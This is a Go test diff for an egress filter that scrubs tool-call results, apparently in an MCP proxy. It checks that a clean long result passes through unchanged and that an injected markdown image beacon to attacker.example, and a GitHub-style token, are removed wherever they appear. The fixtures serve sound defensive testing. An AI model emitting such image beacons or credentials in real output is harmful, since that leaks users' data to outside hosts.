@@ -186,3 +186,35 @@ func FuzzRawNeedsText(f *testing.F) {
 		}
 	})
 }
+
+// TestEgressLongResults: a result long enough that egress judges its
+// links and its secrets at once is forwarded unchanged when clean, and
+// loses its image and its credential, wherever they stand in it.
+func TestEgressLongResults(t *testing.T) {
+	t.Parallel()
+	s := Baseline().NewSession()
+	filler := strings.Repeat("plain words on a line of text\n", 2*concurrentMin/30)
+	result := func(text string) string {
+		q, err := jsontext.AppendQuote(nil, text)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return `{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":` + string(q) + `}]}}`
+	}
+	line := result(filler)
+	if out, rw, err := s.Egress(mustParse(t, line), &Call{Method: "tools/call", Tool: "x"}); err != nil || len(rw) != 0 || string(out) != line {
+		t.Fatalf("changed a clean long result: %v %v", rw, err)
+	}
+	for _, c := range []struct{ insert, gone, canonicaliser string }{
+		{"![x](https://attacker.example/p.png?d=1)", "p.png?d=1", "images"},
+		{"token ghp_R8kq2ZfL0vXw9NcT4mHy7PbJ3sDa6EuG1oQi", "ghp_", "secrets"},
+	} {
+		for _, at := range []int{0, len(filler) / 2, len(filler) - 1} {
+			line := result(filler[:at] + c.insert + "\n" + filler[at:])
+			out, rw, err := s.Egress(mustParse(t, line), &Call{Method: "tools/call", Tool: "x"})
+			if err != nil || len(rw) == 0 || rw[0].Canonicaliser != c.canonicaliser || strings.Contains(string(out), c.gone) {
+				t.Fatalf("%q at %d: %v %v; kept it: %v", c.insert, at, rw, err, strings.Contains(string(out), c.gone))
+			}
+		}
+	}
+}
